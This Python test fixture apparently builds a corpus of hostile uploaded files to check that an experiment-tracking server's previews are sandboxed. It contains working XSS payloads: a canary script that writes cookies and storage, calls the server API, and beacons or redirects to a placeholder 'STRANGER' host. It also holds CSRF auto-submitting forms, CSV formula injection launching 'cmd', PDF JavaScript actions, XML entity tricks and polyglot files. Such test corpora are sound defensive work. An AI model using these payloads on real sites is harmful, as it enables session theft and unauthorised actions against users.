"""Files that try to do something when they are looked at. OURS and STRANGER stand for the two servers' addresses."""

# ruff: noqa: E501 -- an attack is one thing, and reads best in one line

import io
import json

import numpy
import pyarrow
from pyarrow import parquet

#: Tries everything at once: marks every window in reach, writes by the API, pings the stranger.
CANARY = """(function () {
  function attempt(action) { try { action(); } catch (error) { } }
  function mark(reach) { attempt(function () {
    var target = reach();
    attempt(function () { target.document.title = 'stolen'; });
    attempt(function () { target.document.cookie = 'stolen=1; path=/'; });
    attempt(function () { target.localStorage.setItem('stolen', '1'); });
    attempt(function () { target.sessionStorage.setItem('stolen', '1'); });
  }); }
  [function () { return window; }, function () { return parent; }, function () { return top; },
   function () { return opener; }, function () { return parent.frames[0]; }].forEach(mark);
  var json = { 'Content-Type': 'application/json' };
  attempt(function () { fetch('OURS/api/v1/runs/stolen/', { method: 'PUT', headers: json, body: '{}' }); });
  attempt(function () { fetch('/api/v1/runs/stolen/', { method: 'PUT', headers: json, body: '{}' }); });
  attempt(function () { fetch('OURS/api/v1/experiments/', { method: 'POST', mode: 'no-cors', body: '{"name": "stolen"}' }); });
  attempt(function () { var x = new XMLHttpRequest(); x.open('PUT', 'OURS/api/v1/runs/stolen/'); x.send('{}'); });
  attempt(function () { navigator.sendBeacon('OURS/api/v1/experiments/', '{"name": "stolen"}'); });
  attempt(function () { navigator.sendBeacon('STRANGER/beacon', 'x'); });
  attempt(function () { fetch('STRANGER/fetch', { mode: 'no-cors' }); });
  attempt(function () { new WebSocket('STRANGER/socket'.replace('http', 'ws')); });
  attempt(function () { new EventSource('STRANGER/events'); });
  attempt(function () { new Image().src = 'STRANGER/image'; });
  attempt(function () { window.open('STRANGER/popup'); });
  attempt(function () { top.location = 'STRANGER/top'; });
  attempt(function () { parent.location = 'STRANGER/parent'; });
})();"""
SCRIPT = f"<script>{CANARY}</script>"
INLINE = CANARY.replace("\n", " ").replace('"', "&quot;")
FORM = '<form id="f" method="post" action="OURS/{path}"><input name="name" value="stolen"></form><script>f.submit()</script>'


def _element(name: str, **attributes: str) -> str:
    sets = "".join(f"e.setAttribute({key!r}, {value!r});" for key, value in attributes.items())
    return f"<body><script>var e = document.createElement('{name}');{sets}document.body.append(e)</script>"


HTML = {
    "inline script": SCRIPT,
    "onload of the body": f'<body onload="{INLINE}">',
    "onerror of an image": f'<img src="x:" onerror="{INLINE}">',
    "ontoggle of details": f'<details open ontoggle="{INLINE}">x</details>',
    "onfocus with autofocus": f'<input autofocus onfocus="{INLINE}">',
    "javascript: link": f'<a href="javascript:{INLINE}">press</a>',
    "javascript: link that presses itself": f'<a id="a" href="javascript:{INLINE}">press</a><script>a.click()</script>',
    "javascript: frame": f'<iframe src="javascript:{INLINE}"></iframe>',
    "srcdoc frame": f"<iframe srcdoc=\"{SCRIPT.replace(chr(34), '&quot;')}\"></iframe>",
    "data: frame": "<iframe src=\"data:text/html,<script>new Image().src='STRANGER/data'</script>\"></iframe>",
    "blob: frame": "<body><script>var e = document.createElement('iframe'); e.src = URL.createObjectURL(new Blob(["
    "\"<script>fetch('STRANGER/blob', {mode: 'no-cors'})</scr\" + 'ipt>'], {type: 'text/html'}));"
    "document.body.append(e)</script>",
    "frame of our page": '<iframe src="/runs/victim/"></iframe><iframe src="OURS/runs/victim/" onload="this.contentWindow.document.title = '
    "'stolen'\"></iframe>",
    "object of our page": '<object data="OURS/runs/victim/"></object><embed src="OURS/runs/victim/">',
    "meta refresh to a stranger": '<meta http-equiv="refresh" content="0; url=STRANGER/refresh">',
    "meta refresh to javascript:": f'<meta http-equiv="refresh" content="0; url=javascript:{INLINE}">',
    "meta policy of its own": f'<meta http-equiv="Content-Security-Policy" content="default-src *; sandbox allow-same-origin">{SCRIPT}',
    "set-cookie by meta": '<meta http-equiv="Set-Cookie" content="stolen=1">',
    "form to the trash": FORM.format(path="runs/victim/trash/"),
    "form to a new experiment": FORM.format(path="experiments/new/"),
    "form to the API": '<form id="f" method="post" enctype="text/plain" action="OURS/api/v1/experiments/">'
    "<input name='{\"name\": \"stolen\", \"note\": \"' value='\"}'></form><script>f.submit()</script>",
    "form to a stranger": '<form id="f" action="STRANGER/form"><input name="a"></form><script>f.submit()</script>',
    "form that a button sends": '<form method="post"><button formaction="OURS/runs/victim/trash/">press</button></form>',
    "base to a stranger": '<base href="STRANGER/"><script src="base.js"></script><img src="base.png"><a href="x">press</a>',
    "base to us": f'<base href="OURS/runs/victim/" target="_top"><a href="trash/">press</a>{SCRIPT}',
    "script of a stranger": '<script src="STRANGER/script.js"></script><script type="module">import "STRANGER/module.js"</script>',
    "style of a stranger": '<link rel="stylesheet" href="STRANGER/style.css"><style>@import "STRANGER/import.css";'
    '@font-face { font-family: x; src: url("STRANGER/font") } body { font-family: x; background: url("STRANGER/back") }</style>x',
    "pictures and media of a stranger": '<img src="STRANGER/a"><img srcset="STRANGER/b 2x"><picture><source srcset="STRANGER/c"><img></picture>'
    '<video src="STRANGER/d" poster="STRANGER/e" autoplay></video><audio src="STRANGER/f" autoplay></audio><input type="image" src="STRANGER/g">',
    "hints to a stranger": '<link rel="prefetch" href="STRANGER/prefetch"><link rel="preload" as="image" href="STRANGER/preload">'
    '<link rel="modulepreload" href="STRANGER/modulepreload"><link rel="prerender" href="STRANGER/prerender">'
    '<link rel="icon" href="STRANGER/icon"><link rel="manifest" href="STRANGER/manifest">',
    "speculation rules": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["STRANGER/speculation"]}], '
    '"prerender": [{"source": "list", "urls": ["OURS/runs/victim/"]}]}</script>',
    "ping of a link": '<a id="a" href="#x" ping="STRANGER/ping">press</a><script>a.click()</script>',
    "location of its own": "<script>location = 'STRANGER/self'</script>",
    "location to our page": f"<script>location = 'OURS/runs/victim/'</script>{SCRIPT}",
    "location to javascript:": f"<script>location = \"javascript:{INLINE.replace('&quot;', chr(39))}\"</script>",
    "location to data:": "<script>location = \"data:text/html,<img src='STRANGER/located'>\"</script>",
    "top by target": '<a id="a" href="STRANGER/target" target="_top">press</a><script>a.click()</script>',
    "parent by target": '<a id="a" href="STRANGER/target" target="_parent">press</a><script>a.click()</script>',
    "window by target": '<a id="a" href="STRANGER/target" target="_blank">press</a><script>a.click()</script>',
    "download by a link": '<a id="a" href="data:text/plain,x" download="stolen.exe">press</a><script>a.click()</script>',
    "dialogs": "<script>alert('stolen'); confirm('stolen'); prompt('stolen'); print()</script>",
    "service worker": "<script>navigator.serviceWorker.register('/preview/victim/worker.js', {scope: '/'})</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('STRANGER/import.js')\", "
    "\"fetch('STRANGER/worker', {mode: 'no-cors'})\"])))</script>",
    "shared worker": "<script>new SharedWorker('/preview/victim/worker.js')</script>",
    "document.write": f"<script>document.write('<script src=\"STRANGER/written.js\"></scr' + 'ipt>')</script>{SCRIPT}",
    "document.domain": "<script>document.domain = '127.0.0.1'; parent.document.title = 'stolen'</script>",
    "message to the page": "<script>parent.postMessage({title: 'stolen'}, '*'); parent.name = 'stolen'; window.name = 'stolen'</script>",
    "storage of other kinds": "<script>indexedDB.open('stolen'); caches.open('stolen'); cookieStore.set('stolen', '1')</script>",
    "frame made by script": _element("iframe", src="OURS/runs/victim/", sandbox="allow-same-origin allow-scripts"),
    "portal and fenced frame": _element("portal", src="STRANGER/portal") + _element("fencedframe", src="STRANGER/fenced"),
    "script url by script": _element("script", src="STRANGER/script-element.js"),
    "svg within html": f'<svg onload="{INLINE}"><script>{CANARY}</script></svg>',
    "math within html": f'<math><mtext><script>{CANARY}</script></mtext></math><math href="javascript:{INLINE}">press</math>',
    "template and shadow": f'<div><template shadowrootmode="open"><script>{CANARY}</script><img src="x:" onerror="{INLINE}"></template></div>',
    "fullscreen and pointer lock": "<body onclick=\"document.body.requestFullscreen()\"><script>document.body.requestFullscreen()</script>",
}  # fmt: skip

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
SVG = {
    "script": f"{SVG_OPEN}<script><![CDATA[{CANARY}]]></script></svg>",
    "script of a stranger": f'{SVG_OPEN}<script href="STRANGER/svg.js"/></svg>',
    "onload": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{INLINE.replace("<", "&lt;")}"/>',
    "foreign object": f'{SVG_OPEN}<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
    f'<iframe src="OURS/runs/victim/"/><script><![CDATA[{CANARY}]]></script></body></foreignObject></svg>',
    "use of elsewhere": f'{SVG_OPEN}<use href="STRANGER/use.svg#a"/><use xlink:href="data:image/svg+xml,&lt;svg id=\'a\'/&gt;#a"/></svg>',
    "image of elsewhere": f'{SVG_OPEN}<image href="STRANGER/image.png" width="9" height="9"/><style>@import "STRANGER/x.css";</style></svg>',
    "link": f'{SVG_OPEN}<a href="javascript:{INLINE.replace("<", "&lt;")}"><text y="5">press</text></a></svg>',
    "animated link": f'{SVG_OPEN}<a><animate attributeName="href" values="javascript:alert(1)"/><text y="5">press</text></a></svg>',
    "entities": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "STRANGER/entity">]>{SVG_OPEN}<text>&x;</text></svg>',
    "style sheet by instruction": f'<?xml version="1.0"?><?xml-stylesheet href="STRANGER/x.xsl" type="text/xsl"?>{SVG_OPEN}</svg>',
}  # fmt: skip

MARKDOWN = {
    "html": f'{SCRIPT}\n\n<img src=x onerror="{INLINE}">\n\n<iframe src="OURS/runs/victim/"></iframe>',
    "javascript: link": "[press](javascript:alert(1)) [press](JaVaScRiPt&colon;alert(1)) [press](\tjavascript:alert(1))",
    "data: link": "[press](data:text/html,<script>alert(1)</script>)",
    "picture of a stranger": "![x](STRANGER/picture.png) ![x](//STRANGER/p.png)",
    "picture with onerror": '![x](x"onerror="alert(1)) ![x" onerror="alert(1)](y.png)',
    "autolinks": "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "reference": "[press][a]\n\n[a]: javascript:alert(1) \"x' onclick='alert(1)\"",
    "title that breaks out": '[press](# "x\\" onmouseover=\\"alert(1)")',
    "code fence": f"```html\" onload=\"x\n{SCRIPT}\n```",
    "table": f"|a|\n|-|\n|{SCRIPT.splitlines()[0]}|\n",
    "picture of our pages": "![x](../../runs/victim/trash/) ![x](/runs/victim/) ![x](?path=x)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
}  # fmt: skip


def _notebook(*cells: object, **more: object) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells} | more)


def _output(**bundle: str) -> dict[str, object]:
    data = {name.replace("__", "/"): value for name, value in bundle.items()}
    return {
        "cell_type": "code",
        "source": "x",
        "outputs": [{"output_type": "display_data", "data": data, "metadata": {}}],
    }


NOTEBOOK = {
    "html output": _notebook(_output(text__html=f'{SCRIPT}<img src=x onerror="{INLINE}"><a href="javascript:alert(1)">press</a>')),
    "html output that asks a stranger": _notebook(
        _output(text__html='<img src="STRANGER/a"><iframe src="STRANGER/b"></iframe><link rel=stylesheet href="STRANGER/c">'
                '<meta http-equiv=refresh content="0;url=STRANGER/d"><form action="STRANGER/e"><button>press</button></form>')),
    "javascript output": _notebook(_output(application__javascript=CANARY)),
    "svg output": _notebook(_output(**{"image__svg+xml": SVG["script"]})),
    "picture that is none": _notebook(_output(image__png='"><script>alert(1)</script>')),
    "markdown output": _notebook(_output(text__markdown=MARKDOWN["html"])),
    "latex output": _notebook(_output(text__latex=f"$x$ {SCRIPT}")),
    "markdown cell": _notebook({"cell_type": "markdown", "source": MARKDOWN["html"] + MARKDOWN["picture of a stranger"]}),
    "raw cell": _notebook({"cell_type": "raw", "source": SCRIPT}),
    "source": _notebook({"cell_type": "code", "source": f"</pre>{SCRIPT}", "outputs": []}),
    "traceback": _notebook({"cell_type": "code", "source": "", "outputs": [{"output_type": "error", "traceback": [f"\x1b[31m{SCRIPT}"]}]}),
    "stream": _notebook({"cell_type": "code", "source": "", "outputs": [{"output_type": "stream", "name": SCRIPT, "text": SCRIPT}]}),
    "metadata": _notebook({"cell_type": "markdown", "source": "x"}, metadata={"title": SCRIPT, "language_info": {"name": SCRIPT}}),
    "count": _notebook({"cell_type": "code", "execution_count": SCRIPT, "source": "x", "outputs": []}),
    "style that covers": _notebook(_output(text__html="</style><style>body { background: url(STRANGER/s) }</style><b style='x'>x</b>")),
}  # fmt: skip


def _parquet(columns: dict[str, list[str]]) -> bytes:
    buffer = io.BytesIO()
    parquet.write_table(pyarrow.table(columns), buffer)
    return buffer.getvalue()


def _npy(array: object) -> bytes:
    buffer = io.BytesIO()
    numpy.save(buffer, array)
    return buffer.getvalue()


BREAKOUT = f"\"'>{SCRIPT.splitlines()[0]}</script></td><img src=x onerror=alert(1)>"
DATA: dict[str, tuple[str, str | bytes]] = {
    "csv: formulas": ("a.csv", "a,b\n=HYPERLINK(\"STRANGER/x\"),=cmd|' /C calc'!A0\n@SUM(1),+1\n"),
    "csv: scripts": ("b.csv", f'{BREAKOUT},b\n"{BREAKOUT}",{SCRIPT.splitlines()[0]}\n'),
    "tsv: scripts": ("c.tsv", f"{BREAKOUT}\tb\n{BREAKOUT}\tx\n"),
    "json: keys and values": ("a.json", json.dumps({BREAKOUT: BREAKOUT, "list": [SCRIPT, {SCRIPT: 1}], "__proto__": SCRIPT})),
    "json: table": ("b.json", json.dumps({"columns": [BREAKOUT, SCRIPT], "data": [[BREAKOUT, {"a": SCRIPT}]]})),
    "json: broken": ("c.json", f'{{"a": "{SCRIPT}'),
    "jsonl": ("a.jsonl", json.dumps({BREAKOUT: SCRIPT}) + "\n"),
    "parquet: cells and names": ("a.parquet", _parquet({BREAKOUT: [SCRIPT, BREAKOUT]})),
    "npy: names of types": ("a.npy", _npy(numpy.zeros(2, dtype=[("<img src=x onerror=alert(1)>", "i4")]))),
    "npy: values": ("b.npy", _npy(numpy.array([BREAKOUT[:60], "<script>alert(1)</script>"]))),
    "code": ("a.py", f'x = """{SCRIPT}"""  # </pre>{BREAKOUT}\n'),
    "yaml": ("MLmodel", f"flavors: {BREAKOUT}\n"),
    "log": ("a.log", f"{SCRIPT}\x1b]8;;javascript:alert(1)\x07press\x1b]8;;\x07\n"),
    "geojson": ("a.geojson", json.dumps({"type": "Feature", "properties": {"name": SCRIPT}})),
    "bytes": ("a.bin", b"\x00\x01<script>alert(1)</script>" + bytes(60)),
}  # fmt: skip

GIF_SCRIPT = b"GIF89a/*" + bytes(20) + b"*/=1;" + CANARY.encode()
CONFUSION: dict[str, tuple[str, str | bytes]] = {
    f"html named .{suffix}": (f"a.{suffix}", f"<!doctype html>{SCRIPT}")
    for suffix in ("png", "csv", "pdf", "svg", "json", "txt", "mp4", "wav", "ico", "xhtml", "xml", "js", "css", "npy", "parquet", "md")
} | {
    "html without a suffix": ("page", f"<!doctype html>{SCRIPT}"),
    "gif that is a script": ("a.gif", GIF_SCRIPT),
    "gif that is html": ("b.gif", b"GIF89a" + f"<!doctype html>{SCRIPT}".encode()),
    "pdf that is html": ("b.pdf", f"%PDF-1.4\n<!doctype html>{SCRIPT}"),
    "pdf with a script": ("c.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL"
                          "\\('STRANGER/pdf'\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>"),
    "pdf that opens an address": ("d.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(STRANGER/uri)>>/Pages 2 0 R>>endobj\n"
                                  "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>"),
    "html in UTF-7": ("utf7.html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "html in UTF-16": ("utf16.html", f"<!doctype html>{SCRIPT}".encode("utf-16")),
    "html that names another charset": ("charset.html", f'<meta charset="utf-7"><meta charset="iso-2022-jp">{SCRIPT}'),
    "xml with a style": ("style.xml", f'<?xml version="1.0"?><?xml-stylesheet href="a.xsl" type="text/xsl"?><a>{SCRIPT}</a>'),
    "mail of a page": ("a.mhtml", f"MIME-Version: 1.0\nContent-Type: text/html\n\n{SCRIPT}"),
    "shortcut": ("a.url", "[InternetShortcut]\nURL=STRANGER/shortcut\n"),
}  # fmt: skip

NAMES = [
    "<script>alert(1)<%2Fscript>.txt", "<img src=x onerror=alert(1)>.txt", "\"onmouseover=\"alert(1).txt", "'onload='alert(1).png",
    "שלום <b>.txt", "مرحبا.html", "100%.txt", "%3Cscript%3E.txt", "a?path=..&page=9#x.txt", "{{ 7|add:7 }}{% now %}.txt",
    "javascript:alert(1)", "data:text,x.html", "<h1>/<b>/&lt;x&gt;.txt", "a;b=c,d.csv", "​zero​width.txt",
]  # fmt: skip


def corpus() -> dict[str, tuple[str, bytes]]:
    """Every file by what it tries: its path, each in a folder of its own, and its content."""
    found: dict[str, tuple[str, str | bytes]] = {}
    for group, suffix, files in (
        ("html", "html", HTML), ("svg", "svg", SVG), ("markdown", "md", MARKDOWN), ("notebook", "ipynb", NOTEBOOK),
    ):  # fmt: skip
        found |= {f"{group}: {name}": (f"a.{suffix}", content) for name, content in files.items()}
    found |= {f"data: {name}": file for name, file in DATA.items()} | {
        f"confusion: {name}": file for name, file in CONFUSION.items()
    }
    found |= {f"name: {name}": (name, SCRIPT) for name in NAMES}
    return {
        name: (f"{number:03}/{path}", content.encode() if isinstance(content, str) else content)
        for number, (name, (path, content)) in enumerate(found.items())
    }
